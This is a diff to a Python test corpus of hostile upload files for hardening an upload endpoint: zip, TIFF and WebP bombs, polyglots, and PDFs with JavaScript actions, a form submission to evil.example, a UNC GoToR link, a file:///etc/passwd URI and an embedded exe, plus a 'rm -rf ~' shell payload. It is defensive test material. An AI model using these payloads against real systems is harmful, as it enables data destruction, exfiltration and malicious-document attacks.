@@ -369,6 +369,90 @@ def garbage(size: int = 4096, seed: int = 1) -> bytes:
     return random.Random(seed).randbytes(size)
 
 
+# --- More hostile files (tests/hardening runs the whole corpus through the endpoints) ---------
+
+
+def tiff_image(width: int = 16, height: int = 16) -> bytes:
+    """A little-endian TIFF header whose first IFD claims ``width`` x ``height``."""
+    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8)]
+    ifd = struct.pack("<H", len(entries))
+    ifd += b"".join(struct.pack("<HHII", *entry) for entry in entries) + b"\x00" * 4
+    return b"II*\x00" + struct.pack("<I", 8) + ifd
+
+
+def gifar() -> bytes:
+    """GIF + JAR (a ZIP): the classic image that is also an applet."""
+    return gif_image() + zip_archive()
+
+
+def zip_bomb() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("zeros.bin", b"\x00" * (8 * 1024 * 1024))
+    return out.getvalue()
+
+
+def elf_binary() -> bytes:
+    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
+
+
+def pdf_incremental_update_js() -> bytes:
+    """A clean PDF plus a valid incremental update that swaps in a catalog running JavaScript."""
+    base = simple_pdf()
+    previous = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
+    start = len(base)
+    update = (
+        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R "
+        b"/OpenAction << /S /JavaScript /JS (app.alert 1) >> >>\nendobj\n"
+    )
+    xref = start + len(update)
+    return (
+        base
+        + update
+        + b"xref\n0 1\n0000000000 65535 f \n1 1\n"
+        + f"{start:010d} 00000 n \n".encode()
+        + f"trailer\n<< /Size 5 /Root 1 0 R /Prev {previous} >>\n".encode()
+        + f"startxref\n{xref}\n%%EOF\n".encode()
+    )
+
+
+def pdf_open_action(action: str) -> bytes:
+    return simple_pdf(catalog=f"/OpenAction << {action} >>")
+
+
+def pdf_named_embedded_file() -> bytes:
+    """An embedded executable in the /Names tree, written by hand (not through pypdf)."""
+    return simple_pdf(
+        catalog="/Names << /EmbeddedFiles 5 0 R >>",
+        extra=(
+            "<< /Names [(a.exe) 6 0 R] >>",
+            "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
+            "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+        ),
+    )
+
+
+def pdf_annotation(subtype_and_action: str) -> bytes:
+    return simple_pdf(page=f"/Annots [<< /Type /Annot {subtype_and_action} /Rect [0 0 1 1] >>]")
+
+
+def webp_lossless_bomb() -> bytes:
+    """VP8L (lossless) header claiming 16384 x 16384 pixels."""
+    vp8l = b"VP8L" + struct.pack("<I", 5) + b"\x2f" + struct.pack("<I", 16383 | (16383 << 14))
+    return b"RIFF" + struct.pack("<I", 4 + len(vp8l) + 1) + b"WEBP" + vp8l + b"\x00"
+
+
+def png_with_pdf_in_text_chunk() -> bytes:
+    png = png_with_metadata()
+    return png[:33] + png_chunk(b"tEXt", b"Comment\x00" + pdf_from_writer()) + png[33:]
+
+
+def pdf_circular_page_tree() -> bytes:
+    return build_pdf(
+        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]
+    )
+
+
 # --- The hostile corpus --------------------------------------------------------------------
 
 
@@ -477,4 +561,52 @@ HOSTILE: list[Case] = [
         "decompression_bomb",
     ),
     Case("heic_malformed", heic_malformed, "a.heic", "image/heic", "malformed_file"),
-]
+    # Formats outside the allow-list, whatever they are called.
+    Case("tiff_bomb", lambda: tiff_image(100_000, 100_000), "scan.tif", "image/tiff",
+         "unsupported_file_type", 415),
+    Case("tiff_named_jpg", tiff_image, "scan.jpg", "image/jpeg", "unsupported_file_type", 415),
+    Case("gifar", gifar, "photo.gif", "image/gif", "unsupported_file_type", 415),
+    Case("zip_bomb", zip_bomb, "docs.zip", "application/zip", "unsupported_file_type", 415),
+    Case("elf_named_pdf", elf_binary, "contract.pdf", "application/pdf",
+         "unsupported_file_type", 415),
+    Case("shell_script_named_pdf", lambda: b"#!/bin/sh\nrm -rf ~\n", "a.pdf", None,
+         "unsupported_file_type", 415),
+    Case("html_then_pdf", lambda: html_page() + pdf_from_writer(), "a.pdf", "application/pdf",
+         "unsupported_file_type", 415),
+    Case("utf16_text_named_jpg", lambda: "\ufeffhello".encode("utf-16"), "a.jpg", None,
+         "unsupported_file_type", 415),
+    # Active PDF content in less obvious places.
+    Case("pdf_incremental_update_js", pdf_incremental_update_js, "a.pdf", None,
+         "pdf_active_content"),
+    Case("pdf_catalog_aa", lambda: simple_pdf(catalog="/AA << /WC << /S /JavaScript /JS (x) >> >>"),
+         "a.pdf", None, "pdf_active_content"),
+    Case("pdf_hex_escaped_javascript", lambda: pdf_open_action("/S /#4A#61vaScript /JS (x)"),
+         "a.pdf", None, "pdf_active_content"),
+    Case("pdf_submit_form", lambda: pdf_open_action("/S /SubmitForm /F (https://evil.example/)"),
+         "a.pdf", None, "pdf_active_content"),
+    Case("pdf_gotor_unc", lambda: pdf_open_action("/S /GoToR /F (\\\\evil\\s\\x.pdf) /D [0 /Fit]"),
+         "a.pdf", None, "pdf_active_content"),
+    Case("pdf_import_data", lambda: pdf_open_action("/S /ImportData /F (x.fdf)"), "a.pdf", None,
+         "pdf_active_content"),
+    Case("pdf_uri_javascript", lambda: pdf_open_action("/S /URI /URI (JavaScript:alert(1))"),
+         "a.pdf", None, "pdf_active_content"),
+    Case("pdf_uri_file", lambda: pdf_open_action("/S /URI /URI (file:///etc/passwd)"), "a.pdf",
+         None, "pdf_active_content"),
+    Case("pdf_goto_embedded", lambda: pdf_open_action("/S /GoToE /T << /R /C /N (x) >>"),
+         "a.pdf", None, "pdf_active_content"),
+    Case("pdf_named_embedded_exe", pdf_named_embedded_file, "a.pdf", None, "pdf_active_content"),
+    Case("pdf_file_attachment_annot",
+         lambda: pdf_annotation("/Subtype /FileAttachment /FS << /F (a.exe) >>"), "a.pdf", None,
+         "pdf_active_content"),
+    Case("pdf_screen_rendition", lambda: pdf_annotation("/Subtype /Screen /A << /S /Rendition >>"),
+         "a.pdf", None, "pdf_active_content"),
+    Case("pdf_circular_page_tree", pdf_circular_page_tree, "a.pdf", None, "malformed_file"),
+    # Bombs, degenerate images, polyglots hidden in chunks.
+    Case("webp_lossless_bomb", webp_lossless_bomb, "a.webp", None, "decompression_bomb"),
+    Case("jpeg_zero_dimensions", lambda: jpeg_with_dimensions(0, 0), "a.jpg", None,
+         "malformed_file"),
+    Case("png_zero_dimensions", lambda: png_bomb(0, 0), "a.png", None, "malformed_file"),
+    Case("jpeg_soi_only", lambda: b"\xff\xd8\xff", "a.jpg", None, "malformed_file"),
+    Case("png_with_pdf_in_text_chunk", png_with_pdf_in_text_chunk, "a.png", None,
+         "file_type_mismatch"),
+]  # fmt: skip
